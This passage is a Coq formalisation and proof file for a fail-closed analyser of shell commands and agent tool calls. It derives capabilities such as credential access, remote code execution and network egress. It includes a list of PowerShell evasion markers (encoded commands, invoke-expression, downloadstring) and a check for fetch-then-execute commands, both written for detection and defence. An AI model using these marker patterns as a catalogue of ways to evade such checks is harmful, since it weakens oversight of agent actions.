(* ===== verification/IntentDerive.v ===== *)
(** Deriving what an action requests (crate [ainxt-intent], files [posix.rs],
    [windows.rs] and [lib.rs]): POSIX commands over their syntax tree, Windows
    commands by a fail-closed scan, and the built-in tools. *)
From S2P Require Import Prelude RustStr ShellWords ShellTree Intent Programs.
Import Cap.

Module Export Posix.

Definition MAX_NESTING : nat := 4.

Definition flag_sensitive_path (path verb : string) (d : Derivation) : Derivation :=
  let d := when (path_is_credential path)
    (λ d, add d CredentialAccess (verb +:+ "s credential material at " +:+ path)) d in
  when (path_is_system path)
    (λ d, add d SystemPath (verb +:+ "s an OS-owned path at " +:+ path)) d.

Definition note_read (path : string) (d : Derivation) : Derivation :=
  let d := set_targets d (add_read (targets d) path) in
  let d := add d FsRead ("reads " +:+ path) in
  flag_sensitive_path path "read" d.

Definition note_write (path : string) (d : Derivation) : Derivation :=
  let d := set_targets d (add_write (targets d) path) in
  let d := add d FsWrite ("writes " +:+ path) in
  flag_sensitive_path path "write" d.

(** One redirect of the command line. *)
Definition note_redirect (r : nat * option string * ShellFileMode * bool) (d : Derivation) : Derivation :=
  let '(_, target, mode, _) := r in
  match target with
  | Some path => match mode with Read => note_read path d | Write => note_write path d end
  | None =>
      let d := degrade d Partial in
      add d FsWrite "redirects to a destination that could not be resolved"
  end.

(** Operands of a reader program are files it reads. *)
Definition note_operands (program : string) (inner : list string) (d : Derivation) : Derivation :=
  when (bool_decide (shell_file_mode program = Some Read))
    (λ d, fold_left (λ d candidate, note_read candidate d) (shell_file_candidates inner) d) d.

Section Derive.
Context `{BashParser}.

(** One invocation: [nested script] derives a [-c] script, when one more level of
    nesting is allowed. *)
Definition derive_invocation (nested : option (string → Derivation))
    (inv : nat * list string * bool) (d : Derivation) : Derivation :=
  let '(_, words, ambiguous) := inv in
  let d := when ambiguous (λ d, degrade d Partial) d in
  if bool_decide (words = []) then d
  else
    let inner := unwrap_wrappers words in
    let d := classify inner d in
    match inner with
    | [] => d
    | raw :: args =>
        let program := normalize_program raw in
        let d := note_operands program inner d in
        match nested, (if is_code_interpreter program then dash_c_script args else None) with
        | Some derive_script, Some script => Derivation_merge d (derive_script script)
        | _, _ => d
        end
    end.

(** [derive_at]: [fuel] is [MAX_NESTING - depth], so that the recursion is
    allowed exactly when [depth < MAX_NESTING]. *)
Fixpoint derive_at (fuel : nat) (command : string) : Derivation :=
  match try_parse_shell command with
  | None => Derivation_unknown "shell command could not be parsed"
  | Some root =>
      if has_error root then
        Derivation_unknown
          "shell command has a syntax error; its decomposition is not trustworthy"
      else
        let nested := match fuel with 0 => None | S fuel' => Some (derive_at fuel') end in
        let d := Derivation_new Exact in
        let d := fold_left (λ d inv, derive_invocation nested inv d)
                   (shell_command_invocations root command) d in
        let d := fold_left (λ d path, note_write path d)
                   (command_write_paths_in_tree root command) d in
        fold_left (λ d r, note_redirect r d) (shell_redirect_targets root command) d
  end.

(** The state of the loop of [composes_remote_execution]; [Done] is an early
    return. *)
Inductive scan_state : Type :=
| Scan (fetcher interpreter : option string)
| Done (found : string * string).

(** [Option::get_or_insert]. *)
Definition get_or_insert (o : option string) (v : string) : option string :=
  Some (default v o).

Definition scan_invocation (nested : string → option (string * string)) (st : scan_state)
    (inv : nat * list string * bool) : scan_state :=
  match st with
  | Done _ => st
  | Scan fetcher interpreter =>
      match unwrap_wrappers inv.1.2 with
      | [] => st
      | raw :: args =>
          let program := normalize_program raw in
          let fetcher := if is_downloader program args then get_or_insert fetcher program else fetcher in
          if is_code_interpreter program then
            match dash_c_script args with
            | Some script =>
                match nested script with
                | Some found => Done found
                | None => Scan fetcher interpreter
                end
            | None => Scan fetcher (get_or_insert interpreter program)
            end
          else Scan fetcher interpreter
      end
  end.

(** [fuel] is [MAX_NESTING + 1 - depth]. *)
Fixpoint composes_remote_execution (fuel : nat) (command : string) : option (string * string) :=
  match fuel with
  | 0 => None
  | S fuel' =>
      root ← try_parse_shell command;
      match fold_left (scan_invocation (composes_remote_execution fuel'))
              (shell_command_invocations root command) (Scan None None) with
      | Done found => Some found
      | Scan (Some f) (Some i) => Some (f, i)
      | Scan _ _ => None
      end
  end.

Definition posix_derive (command : string) : Derivation :=
  let d := derive_at MAX_NESTING command in
  match composes_remote_execution (S MAX_NESTING) command with
  | Some (fetcher, interpreter) =>
      add d RemoteCodeExecution
        (quoted fetcher +:+ " retrieves content and " +:+ quoted interpreter +:+
         " executes it in the same command")
  | None => d
  end.

End Derive.

End Posix.

Module Export Windows.

Definition EVASION_MARKERS : list (string * string) :=
  [("-encodedcommand", "base64-encoded command payload");
   ("-enc ", "base64-encoded command payload");
   ("frombase64string", "base64 decode into execution");
   ("invoke-expression", "interprets a string as code");
   ("iex ", "interprets a string as code");
   ("iex(", "interprets a string as code");
   ("$(", "subexpression substitution");
   ("&{", "script-block invocation");
   (".{", "dot-sourced script block");
   ("`", "backtick escape");
   ("^", "caret escape");
   ("[char]", "character-code string construction");
   ("-join", "string reassembly");
   ("downloadstring", "in-memory remote code fetch");
   ("downloadfile", "in-memory remote file fetch");
   ("start-process", "indirect process launch");
   ("new-object", "reflective object construction");
   ("add-type", "inline code compilation");
   ("reflection.assembly", "assembly loading")].

Definition ALIASES : list (string * string) :=
  [("iwr", "invoke-webrequest"); ("irm", "invoke-restmethod"); ("curl", "invoke-webrequest");
   ("wget", "invoke-webrequest"); ("gc", "get-content"); ("cat", "get-content");
   ("type", "get-content"); ("sc", "set-content"); ("ri", "remove-item"); ("del", "remove-item");
   ("erase", "remove-item"); ("rd", "remove-item"); ("rmdir", "remove-item"); ("ni", "new-item");
   ("ci", "copy-item"); ("cpi", "copy-item"); ("mi", "move-item"); ("spps", "stop-process");
   ("kill", "stop-process")].

Definition is_quote_char (c : string) : bool := bool_decide (c = "'") || bool_decide (c = quote_str).
Definition newline : string := String (byte 10) "".
Definition carriage_return : string := String (byte 13) "".

(** The loop of [split_segments] over the remaining characters; [None] when a
    quote is left open. *)
Fixpoint split_segments_from (cs : list string) (quote : option string) (current : string)
    : option (list string) :=
  match cs with
  | [] => match quote with Some _ => None | None => Some [current] end
  | c :: rest =>
      match quote with
      | Some q =>
          split_segments_from rest (if bool_decide (c = q) then None else quote) (current +:+ c)
      | None =>
          if is_quote_char c then split_segments_from rest (Some c) (current +:+ c)
          else if bool_decide (c ∈ [";"; newline; carriage_return]) then
            cons current <$> split_segments_from rest None ""
          else if bool_decide (c ∈ ["|"; "&"]) then
            match rest with
            | c' :: rest' =>
                if bool_decide (c' = c) then cons current <$> split_segments_from rest' None ""
                else cons current <$> split_segments_from rest None ""
            | [] => cons current <$> split_segments_from rest None ""
            end
          else split_segments_from rest None (current +:+ c)
      end
  end.

Definition split_segments (command : string) : option (list string) :=
  match split_segments_from (chars command) None "" with
  | None => None
  | Some out => Some (filter (λ s, is_empty s = false) (trim <$> out))
  end.

Fixpoint tokenize_from (cs : list string) (quote : option string) (started : bool) (current : string)
    : option (list string) :=
  match cs with
  | [] =>
      match quote with
      | Some _ => None
      | None => Some (if started || negb (is_empty current) then [current] else [])
      end
  | c :: rest =>
      match quote with
      | Some q =>
          if bool_decide (c = q) then tokenize_from rest None started current
          else tokenize_from rest quote started (current +:+ c)
      | None =>
          if is_quote_char c then tokenize_from rest (Some c) true current
          else if is_whitespace c then
            if started || negb (is_empty current) then
              cons current <$> tokenize_from rest None false ""
            else tokenize_from rest None started current
          else tokenize_from rest None started (current +:+ c)
      end
  end.

Definition tokenize (segment : string) : option (list string) :=
  tokenize_from (chars segment) None false "".

Definition resolve_alias (words : list string) : list string :=
  match words with
  | [] => []
  | first :: rest =>
      match find (λ '(a, _), bool_decide (a = to_ascii_lowercase first)) ALIASES with
      | Some (_, canonical) => canonical :: rest
      | None => words
      end
  end.

(** The classification loop; [None] when a segment does not tokenise. *)
Fixpoint classify_segments (segments : list string) (d : Derivation) : option Derivation :=
  match segments with
  | [] => Some d
  | segment :: rest =>
      words ← tokenize segment;
      if bool_decide (words = []) then classify_segments rest d
      else classify_segments rest (classify (resolve_alias words) d)
  end.

Definition evasion_marker (lower : string) : option (string * string) :=
  find (λ '(marker, _), contains marker lower) EVASION_MARKERS.

Definition windows_derive (command : string) : Derivation :=
  let lower := to_ascii_lowercase command in
  match evasion_marker lower with
  | Some (marker, why) =>
      Derivation_unknown ("command uses " +:+ why +:+ " (`" +:+ trim marker +:+
                          "`), which defeats static decomposition")
  | None =>
      if contains_byte "%"%char lower && bool_decide (2 ≤ count_byte "%"%char lower) then
        Derivation_unknown "command uses `%VAR%` late expansion"
      else
        match split_segments command with
        | None => Derivation_unknown "command has unbalanced quoting"
        | Some segments =>
            let d := add (Derivation_new Partial) ShellInterpretation
                       "runs through a Windows shell with no available grammar" in
            match classify_segments segments d with
            | Some d => d
            | None => Derivation_unknown "a command segment could not be tokenised"
            end
        end
  end.

End Windows.

Module Export Tools.

Inductive ShellKind : Type := Posix | PowerShell | Cmd.

Definition from_program (program : string) : ShellKind :=
  let name := normalize_program program in
  if mem name ["pwsh"; "powershell"] then PowerShell
  else if mem name ["cmd"; "command"] then Cmd
  else Posix.

Definition derive_shell `{BashParser} (command : string) (shell : ShellKind) : Derivation :=
  match shell with
  | Posix => posix_derive command
  | PowerShell | Cmd => windows_derive command
  end.

Definition derive_read (path : string) : Derivation := note_read path (Derivation_new Exact).
Definition derive_write (path : string) : Derivation := note_write path (Derivation_new Exact).

Definition derive_egress (url : string) : Derivation :=
  let d := Derivation_new Exact in
  let d := set_targets d (add_url (targets d) url) in
  let d := add d NetworkConnect ("connects to " +:+ url) in
  add d Download ("retrieves content from " +:+ url).

Definition derive_mcp (server tool : string) : Derivation :=
  add (Derivation_new Partial) McpInvoke
    ("invokes MCP tool " +:+ quoted tool +:+ " on server " +:+ quoted server).

Definition derive_tool (tool : string) : Derivation :=
  let name := to_ascii_lowercase tool in
  let d := Derivation_new Exact in
  if mem name ["read"; "notebookread"; "grep"; "glob"; "ls"] then
    add d FsRead (quoted tool +:+ " reads the workspace")
  else if mem name ["write"; "edit"; "notebookedit"] then
    add d FsWrite (quoted tool +:+ " writes the workspace")
  else if mem name ["webfetch"; "websearch"] then
    let d := add d NetworkConnect (quoted tool +:+ " reaches the network") in
    add d Download (quoted tool +:+ " retrieves remote content")
  else if mem name ["task"; "agent"] then
    add d AgentSpawn (quoted tool +:+ " spawns a subagent")
  else
    Derivation_unknown
      (quoted tool +:+ " is not a recognised tool; its capabilities cannot be derived").

End Tools.

Module Export Properties.

(** ** Every step is a recorder *)

#[export] Instance Recorder_flag_sensitive_path p v : Recorder (flag_sensitive_path p v).
Proof. unfold flag_sensitive_path. recorder. Qed.
#[export] Instance Recorder_note_read p : Recorder (note_read p).
Proof.
  unfold note_read. cbv zeta.
  apply (Recorder_comp (λ d, add (set_targets d (add_read (targets d) p)) FsRead _) _); [|apply _].
  apply (Recorder_comp (λ d, set_targets d (add_read (targets d) p)) (λ d, add d FsRead _)); apply _.
Qed.
#[export] Instance Recorder_note_write p : Recorder (note_write p).
Proof.
  unfold note_write. cbv zeta.
  apply (Recorder_comp (λ d, add (set_targets d (add_write (targets d) p)) FsWrite _) _); [|apply _].
  apply (Recorder_comp (λ d, set_targets d (add_write (targets d) p)) (λ d, add d FsWrite _)); apply _.
Qed.
#[export] Instance Recorder_note_redirect r : Recorder (note_redirect r).
Proof.
  destruct r as [[[s target] mode] amb]. unfold note_redirect.
  destruct target as [path|]; [destruct mode; apply _|]. cbv zeta.
  apply (Recorder_comp (λ d, degrade d Partial) (λ d, add d FsWrite _)); apply _.
Qed.

#[export] Instance Recorder_note_operands p inner : Recorder (note_operands p inner).
Proof. apply Recorder_when, (Recorder_fold note_read). apply _. Qed.

(** An unknown derivation is never empty: it still claims that something runs. *)
Definition fail_closed (d : Derivation) : Prop :=
  confidence d = Unknown → ExecuteProcess ∈ capabilities d.

Lemma fail_closed_unknown reason : fail_closed (Derivation_unknown reason).
Proof. intros _. apply add_has. Qed.

Lemma fail_closed_merge d d' : fail_closed d → fail_closed d' → fail_closed (Derivation_merge d d').
Proof.
  unfold fail_closed, Derivation_merge. simpl. intros H1 H2 Hc.
  destruct (confidence d), (confidence d'); vm_compute in Hc; try done; set_solver.
Qed.

(** A recorder that never makes the confidence unknown keeps [fail_closed]. *)
Lemma fail_closed_recorder f d :
  Recorder f → (confidence (f d) = Unknown → confidence d = Unknown) → fail_closed d → fail_closed (f d).
Proof. intros Hf Hc Hd Hu. apply (rec_grows (f := f)). by apply Hd, Hc. Qed.

(** Steps that leave the confidence alone. *)
Lemma fold_confidence {A} (f : A → Derivation → Derivation) l d :
  (∀ x d, confidence (f x d) = confidence d) →
  confidence (fold_left (λ d x, f x d) l d) = confidence d.
Proof. intros Hf. apply fold_left_inv; [done|]. intros d' x _ <-. apply Hf. Qed.

Lemma when_confidence b f d : (∀ d, confidence (f d) = confidence d) → confidence (when b f d) = confidence d.
Proof. by destruct b; simpl. Qed.

Lemma flag_sensitive_confidence p v d : confidence (flag_sensitive_path p v d) = confidence d.
Proof. unfold flag_sensitive_path. cbv zeta. by rewrite !when_confidence. Qed.
Lemma note_read_confidence p d : confidence (note_read p d) = confidence d.
Proof. unfold note_read. cbv zeta. by rewrite flag_sensitive_confidence. Qed.
Lemma note_write_confidence p d : confidence (note_write p d) = confidence d.
Proof. unfold note_write. cbv zeta. by rewrite flag_sensitive_confidence. Qed.
Lemma note_operands_confidence p ws d : confidence (note_operands p ws d) = confidence d.
Proof.
  apply when_confidence. intros d'. apply (fold_confidence note_read). intros. apply note_read_confidence.
Qed.

Lemma note_redirect_fail_closed r d : fail_closed d → fail_closed (note_redirect r d).
Proof.
  intros Hd. apply (fail_closed_recorder (note_redirect r)); [apply _| |done].
  destruct r as [[[s target] mode] amb]. unfold note_redirect.
  destruct target as [p|]; [destruct mode|].
  - by rewrite note_read_confidence.
  - by rewrite note_write_confidence.
  - simpl. by destruct (confidence d).
Qed.

Lemma classify_confidence words d : confidence (classify words d) = confidence d.
Proof.
  unfold classify. generalize MAX_LAUNCHER_DEPTH as fuel. intros fuel. revert words d.
  induction fuel as [|fuel IH]; intros words d; [done|]. simpl.
  destruct words as [|raw args]; [done|].
  destruct (mem _ LAUNCHERS); [|apply classify_here_confidence].
  destruct (launched_command args); [|apply classify_here_confidence].
  rewrite IH. apply classify_here_confidence.
Qed.

Section Derive.
Context `{BashParser}.

Lemma Recorder_derive_invocation nested inv :
  (∀ g s, nested = Some g → Derivation_wf (g s)) → Recorder (derive_invocation nested inv).
Proof.
  intros Hn. destruct inv as [[s words] amb]. unfold derive_invocation. cbv zeta.
  destruct (bool_decide (words = [])); [apply _|].
  destruct (unwrap_wrappers words) as [|raw args].
  { apply (Recorder_comp (when amb (λ d, degrade d Partial)) (classify [])); apply _. }
  set (seq := λ d, note_operands (normalize_program raw) (raw :: args)
                     (classify (raw :: args) (when amb (λ d0, degrade d0 Partial) d))).
  assert (Recorder seq) as Hseq.
  { apply (Recorder_comp (λ d, classify (raw :: args) (when amb (λ d0, degrade d0 Partial) d))
      (note_operands _ _)); [|apply _].
    apply (Recorder_comp (when amb (λ d0, degrade d0 Partial)) (classify (raw :: args))); apply _. }
  destruct nested as [g|]; [|exact Hseq].
  destruct (if is_code_interpreter _ then _ else _) as [script|]; [|exact Hseq].
  apply (Recorder_comp seq (λ d, Derivation_merge d (g script))); [done|].
  apply Recorder_merge. by apply Hn.
Qed.

Lemma derive_at_wf fuel command : Derivation_wf (derive_at fuel command).
Proof.
  revert command. induction fuel as [fuel IH] using lt_wf_ind. intros command.
  destruct fuel as [|fuel]; simpl; (destruct (try_parse_shell command) as [root|];
    [|apply Derivation_unknown_wf]; destruct (has_error root); [apply Derivation_unknown_wf|]).
  all: apply (fold_recorder_wf note_redirect _ _ _).
  all: apply (fold_recorder_wf note_write _ _ _).
  all: apply (fold_recorder_wf (derive_invocation _)); [|apply Derivation_new_wf].
  all: intros inv; apply Recorder_derive_invocation; intros g sc Hg; first [done | injection Hg as <-; apply IH; lia].
Qed.

(** Confidence only becomes unknown by merging an unknown nested script. *)
Lemma derive_invocation_fail_closed nested inv d :
  (∀ g s, nested = Some g → Derivation_wf (g s)) → (∀ g s, nested = Some g → fail_closed (g s)) →
  fail_closed d → fail_closed (derive_invocation nested inv d).
Proof.
  intros Hwf Hn Hd. destruct inv as [[s words] amb]. unfold derive_invocation. cbv zeta.
  assert (Hamb : fail_closed (when amb (λ d, degrade d Partial) d)).
  { apply (fail_closed_recorder (when amb (λ d, degrade d Partial))); [apply _| |done].
    unfold when. destruct amb; [|done]. simpl. by destruct (confidence d). }
  destruct (bool_decide (words = [])); [done|].
  assert (Hcl : ∀ ws, fail_closed (classify ws (when amb (λ d, degrade d Partial) d))).
  { intros ws. apply (fail_closed_recorder (classify ws)); [apply _| |done]. by rewrite classify_confidence. }
  destruct (unwrap_wrappers words) as [|raw args]; [done|].
  assert (Hops : ∀ p ws d', fail_closed d' → fail_closed (note_operands p ws d')).
  { intros p ws d' Hd'. apply (fail_closed_recorder (note_operands p ws)); [apply _| |done].
    by rewrite note_operands_confidence. }
  destruct nested as [g|]; [|by apply Hops].
  destruct (if is_code_interpreter _ then _ else _) as [script|]; [|by apply Hops].
  apply fail_closed_merge; [by apply Hops|by apply Hn].
Qed.

Lemma fail_closed_fold {A} (f : A → Derivation → Derivation) l d :
  (∀ x d, fail_closed d → fail_closed (f x d)) → fail_closed d →
  fail_closed (fold_left (λ d x, f x d) l d).
Proof. intros Hf Hd. apply fold_left_inv; [done|]. auto. Qed.

Lemma derive_at_fail_closed fuel command : fail_closed (derive_at fuel command).
Proof.
  revert command. induction fuel as [fuel IH] using lt_wf_ind. intros command.
  destruct fuel as [|fuel]; simpl; (destruct (try_parse_shell command) as [root|];
    [|apply fail_closed_unknown]; destruct (has_error root); [apply fail_closed_unknown|]).
  all: apply (fail_closed_fold note_redirect); [intros; by apply note_redirect_fail_closed|].
  all: apply (fail_closed_fold note_write).
  1, 3: intros p d Hd; apply (fail_closed_recorder (note_write p)); [apply _| |done];
    by rewrite note_write_confidence.
  all: apply (fail_closed_fold (derive_invocation _)); [|done].
  all: intros inv d Hd; apply derive_invocation_fail_closed; [| |done]; intros g sc Hg;
    first [done | injection Hg as <-; first [apply derive_at_wf | apply IH; lia]].
Qed.

(** ** What a POSIX command always shows *)

(** The derivation of a tree that parsed cleanly. *)
Definition derive_tree (nested : option (string → Derivation)) (root : Tree) (command : string)
    : Derivation :=
  let d := Derivation_new Exact in
  let d := fold_left (λ d inv, derive_invocation nested inv d)
             (shell_command_invocations root command) d in
  let d := fold_left (λ d path, note_write path d) (command_write_paths_in_tree root command) d in
  fold_left (λ d r, note_redirect r d) (shell_redirect_targets root command) d.

Definition nested_at (fuel : nat) : option (string → Derivation) :=
  match fuel with 0 => None | S fuel' => Some (derive_at fuel') end.

Lemma derive_at_tree fuel command root :
  try_parse_shell command = Some root → has_error root = false →
  derive_at fuel command = derive_tree (nested_at fuel) root command.
Proof. intros Hp He. destruct fuel; simpl; by rewrite Hp, He. Qed.

Lemma Recorder_derive_invocation_at fuel inv : Recorder (derive_invocation (nested_at fuel) inv).
Proof.
  apply Recorder_derive_invocation. intros g s Hg. destruct fuel; [done|].
  injection Hg as <-. apply derive_at_wf.
Qed.

(** Each invocation, each written path and each redirect leaves its mark. *)
Lemma derive_tree_invocation fuel root command inv :
  inv ∈ shell_command_invocations root command →
  ∃ d0, grows (derive_invocation (nested_at fuel) inv d0) (derive_tree (nested_at fuel) root command).
Proof.
  intros Hinv. unfold derive_tree.
  destruct (fold_recorder_member (derive_invocation (nested_at fuel)) _ inv (Derivation_new Exact)
    (Recorder_derive_invocation_at fuel) Hinv) as (d0 & _ & H0).
  exists d0. etransitivity; [exact H0|].
  etransitivity; [|apply (fold_recorder_grows note_redirect _ _ Recorder_note_redirect)].
  apply (fold_recorder_grows note_write _ _ Recorder_note_write).
Qed.

Lemma derive_invocation_classify nested s words amb d :
  words ≠ [] → (∀ g s, nested = Some g → Derivation_wf (g s)) →
  ∃ d0, grows (classify (unwrap_wrappers words) d0) (derive_invocation nested (s, words, amb) d).
Proof.
  intros Hw Hn. exists (when amb (λ d, degrade d Partial) d). unfold derive_invocation. cbv zeta.
  rewrite (bool_decide_eq_false_2 (words = [])) by done.
  destruct (unwrap_wrappers words) as [|raw args]; [done|].
  etransitivity; [apply (rec_grows (f := note_operands (normalize_program raw) (raw :: args)))|].
  destruct nested as [g|]; [|done].
  destruct (if is_code_interpreter _ then _ else _) as [script|]; [|done]. apply grows_merge_l.
Qed.

Lemma derive_invocation_nested g s words amb raw args script d :
  unwrap_wrappers words = raw :: args → words ≠ [] → is_code_interpreter (normalize_program raw) = true →
  dash_c_script args = Some script →
  grows (g script) (derive_invocation (Some g) (s, words, amb) d).
Proof.
  intros Hu Hw Hi Hd. unfold derive_invocation. cbv zeta.
  rewrite (bool_decide_eq_false_2 (words = [])), Hu, Hi, Hd by done. apply grows_merge_r.
Qed.

(** A path is noted by a derivation: as a target of its mode, with the capability
    of the mode, and flagged when it is credential material or an OS-owned path. *)
Record noted (mode : ShellFileMode) (p : string) (d : Derivation) : Prop := {
  noted_target : match mode with Read => p ∈ reads (targets d) | Write => p ∈ writes (targets d) end;
  noted_capability : match mode with Read => FsRead | Write => FsWrite end ∈ capabilities d;
  noted_credential : path_is_credential p = true → CredentialAccess ∈ capabilities d;
  noted_system : path_is_system p = true → SystemPath ∈ capabilities d;
}.

Lemma noted_grows mode p d d' : grows d d' → noted mode p d → noted mode p d'.
Proof.
  intros [Hc _ _ Hr Hw _ _] [Ht Hm Hcr Hs]. split; auto. destruct mode; auto.
Qed.

Lemma flag_sensitive_records p v d :
  (path_is_credential p = true → CredentialAccess ∈ capabilities (flag_sensitive_path p v d)) ∧
  (path_is_system p = true → SystemPath ∈ capabilities (flag_sensitive_path p v d)).
Proof.
  unfold flag_sensitive_path, when. cbv zeta. split; intros Hp; rewrite Hp; cbv beta iota.
  - destruct (path_is_system p); [apply (grows_caps _ _ (grows_add _ _ _))|]; apply add_has.
  - apply add_has.
Qed.

Lemma note_write_noted p d : noted Write p (note_write p d).
Proof.
  unfold note_write. cbv zeta. set (d1 := add _ _ _).
  destruct (rec_grows (f := flag_sensitive_path p "write") d1) as [Hc _ _ _ Hw _ _].
  split; [apply Hw; simpl; apply elem_of_push_unique; by left|apply Hc, add_has|apply flag_sensitive_records..].
Qed.

Lemma note_read_noted p d : noted Read p (note_read p d).
Proof.
  unfold note_read. cbv zeta. set (d1 := add _ _ _).
  destruct (rec_grows (f := flag_sensitive_path p "read") d1) as [Hc _ _ Hr _ _ _].
  split; [apply Hr; simpl; apply elem_of_push_unique; by left|apply Hc, add_has|apply flag_sensitive_records..].
Qed.

Lemma note_redirect_noted s p mode amb d : noted mode p (note_redirect (s, Some p, mode, amb) d).
Proof. destruct mode; [apply note_read_noted|apply note_write_noted]. Qed.

Lemma not_exact_grows d d' : grows d d' → confidence d ≠ Exact → confidence d' ≠ Exact.
Proof. intros [_ Hr _ _ _ _ _] Hd Hd'. rewrite Hd' in Hr. by destruct (confidence d); simpl in Hr; try lia. Qed.

Lemma degrade_not_exact d : confidence (degrade d Partial) ≠ Exact.
Proof. simpl. by destruct (confidence d). Qed.

Lemma note_redirect_unresolved s mode amb d :
  FsWrite ∈ capabilities (note_redirect (s, None, mode, amb) d) ∧
  confidence (note_redirect (s, None, mode, amb) d) ≠ Exact.
Proof. split; [apply add_has|]. apply (not_exact_grows _ _ (grows_add _ _ _)), degrade_not_exact. Qed.

(** The step of one invocation: the operands of a reader program, and the loss of
    exactness when a word could not be resolved. *)
Lemma derive_invocation_operands nested s words amb raw args candidate d :
  words ≠ [] → (∀ g s, nested = Some g → Derivation_wf (g s)) →
  unwrap_wrappers words = raw :: args → shell_file_mode (normalize_program raw) = Some Read →
  candidate ∈ shell_file_candidates (raw :: args) →
  noted Read candidate (derive_invocation nested (s, words, amb) d).
Proof.
  intros Hw Hn Hu Hm Hc. unfold derive_invocation. cbv zeta.
  rewrite (bool_decide_eq_false_2 (words = [])), Hu by done. set (d1 := classify _ _).
  assert (noted Read candidate (note_operands (normalize_program raw) (raw :: args) d1)) as Hd.
  { unfold note_operands, when. rewrite bool_decide_eq_true_2 by done.
    destruct (fold_recorder_member note_read _ candidate d1 Recorder_note_read Hc) as (d0 & _ & Hg).
    apply (noted_grows _ _ _ _ Hg), note_read_noted. }
  destruct nested as [g|]; [|done].
  destruct (if is_code_interpreter _ then _ else _); [|done]. by apply (noted_grows _ _ _ _ (grows_merge_l _ _)).
Qed.

Lemma derive_invocation_ambiguous nested s words d :
  (∀ g s, nested = Some g → Derivation_wf (g s)) →
  confidence (derive_invocation nested (s, words, true) d) ≠ Exact.
Proof.
  intros Hn. destruct (decide (words = [])) as [->|Hw]; [apply degrade_not_exact|].
  unfold derive_invocation. cbv zeta. rewrite (bool_decide_eq_false_2 (words = [])) by done.
  assert (∀ ws, confidence (classify ws (when true (λ d, degrade d Partial) d)) ≠ Exact) as Hcl
    by (intros ws; rewrite classify_confidence; apply degrade_not_exact).
  destruct (unwrap_wrappers words) as [|raw args]; [apply Hcl|].
  assert (∀ p ws d, confidence d ≠ Exact → confidence (note_operands p ws d) ≠ Exact) as Hops
    by (intros; by rewrite note_operands_confidence).
  destruct nested as [g|]; [|by apply Hops].
  destruct (if is_code_interpreter _ then _ else _); [|by apply Hops].
  by eapply not_exact_grows; [apply grows_merge_l|apply Hops].
Qed.

(** What a derivation must say of a command that parsed cleanly as [root]:
    - the capabilities of every command node, at any depth of the tree, once
      wrappers are peeled;
    - every file a reader program is given, as a read;
    - the whole derivation of a [-c] script handed to an interpreter, while the
      nesting allows it;
    - every path the tree writes, as a write;
    - every redirect, as a read or a write of its target, and a redirect whose
      target is not known as a write that is not exact;
    - and it is not exact when a word of some invocation could not be resolved. *)
Record covers (fuel : nat) (root : Tree) (command : string) (d : Derivation) : Prop := {
  covers_command n : descendant root n → kind n = "command" → (invocation command n).1.2 ≠ [] →
    capabilities (classify (unwrap_wrappers (invocation command n).1.2) (Derivation_new Exact))
      ⊆ capabilities d;
  covers_operand n raw args p : descendant root n → kind n = "command" →
    unwrap_wrappers (invocation command n).1.2 = raw :: args →
    shell_file_mode (normalize_program raw) = Some Read → p ∈ shell_file_candidates (raw :: args) →
    noted Read p d;
  covers_script n raw args script fuel' : descendant root n → kind n = "command" → fuel = S fuel' →
    unwrap_wrappers (invocation command n).1.2 = raw :: args →
    is_code_interpreter (normalize_program raw) = true → dash_c_script args = Some script →
    grows (derive_at fuel' script) d;
  covers_written p : p ∈ command_write_paths_in_tree root command → noted Write p d;
  covers_redirect s p mode amb : (s, Some p, mode, amb) ∈ shell_redirect_targets root command →
    noted mode p d;
  covers_unresolved s mode amb : (s, None, mode, amb) ∈ shell_redirect_targets root command →
    FsWrite ∈ capabilities d ∧ confidence d ≠ Exact;
  covers_ambiguous n : descendant root n → kind n = "command" → (invocation command n).2 = true →
    confidence d ≠ Exact;
}.

Lemma node_invoked root command n :
  descendant root n → kind n = "command" → invocation command n ∈ shell_command_invocations root command.
Proof.
  intros Hn Hk. unfold shell_command_invocations. rewrite sort_by_Permutation.
  apply list_elem_of_fmap. exists n. split; [done|]. by rewrite list_elem_of_filter, elem_of_visited.
Qed.

Lemma derive_tree_written fuel root command p :
  p ∈ command_write_paths_in_tree root command →
  ∃ d0, grows (note_write p d0) (derive_tree (nested_at fuel) root command).
Proof.
  intros Hp. unfold derive_tree. cbv zeta. set (d1 := fold_left (λ d inv, _) _ (Derivation_new Exact)).
  destruct (fold_recorder_member note_write _ p d1 Recorder_note_write Hp) as (d0 & _ & Hg).
  exists d0. etransitivity; [exact Hg|]. apply (fold_recorder_grows note_redirect _ _ Recorder_note_redirect).
Qed.

Lemma derive_tree_redirect fuel root command r :
  r ∈ shell_redirect_targets root command →
  ∃ d0, grows (note_redirect r d0) (derive_tree (nested_at fuel) root command).
Proof.
  intros Hr. unfold derive_tree. cbv zeta. set (d2 := fold_left (λ d path, note_write path d) _ _).
  destruct (fold_recorder_member note_redirect _ r d2 Recorder_note_redirect Hr) as (d0 & _ & Hg). by exists d0.
Qed.

Lemma nested_at_wf fuel g s : nested_at fuel = Some g → Derivation_wf (g s).
Proof. intros Hg. destruct fuel; [done|]. injection Hg as <-. apply derive_at_wf. Qed.

Lemma unwrapped_words words raw args : unwrap_wrappers words = raw :: args → words ≠ [].
Proof. intros Hu ->. by vm_compute in Hu. Qed.

Lemma derive_tree_covers fuel root command :
  covers fuel root command (derive_tree (nested_at fuel) root command).
Proof.
  assert (Hnode : ∀ n, descendant root n → kind n = "command" → ∃ d0,
    grows (derive_invocation (nested_at fuel) (invocation command n) d0)
      (derive_tree (nested_at fuel) root command)).
  { intros n Hn Hk. by apply derive_tree_invocation, node_invoked. }
  split.
  - intros n Hn Hk Hw. destruct (Hnode n Hn Hk) as (d0 & Hd0).
    destruct (invocation command n) as [[s words] amb]. simpl in *.
    destruct (derive_invocation_classify (nested_at fuel) s words amb d0 Hw) as (d1 & Hd1).
    { intros g sc. apply nested_at_wf. }
    etransitivity; [|apply (grows_caps _ _ Hd0)]. etransitivity; [|apply (grows_caps _ _ Hd1)].
    apply Recorder_caps_subset; [apply _|]. simpl. set_solver.
  - intros n raw args p Hn Hk Hu Hm Hp. destruct (Hnode n Hn Hk) as (d0 & Hd0).
    destruct (invocation command n) as [[s words] amb]. apply (noted_grows _ _ _ _ Hd0).
    apply (derive_invocation_operands _ _ _ _ raw args); try done.
    + by apply unwrapped_words in Hu.
    + intros g sc. apply nested_at_wf.
  - intros n raw args script fuel' Hn Hk -> Hu Hi Hd. destruct (Hnode n Hn Hk) as (d0 & Hd0).
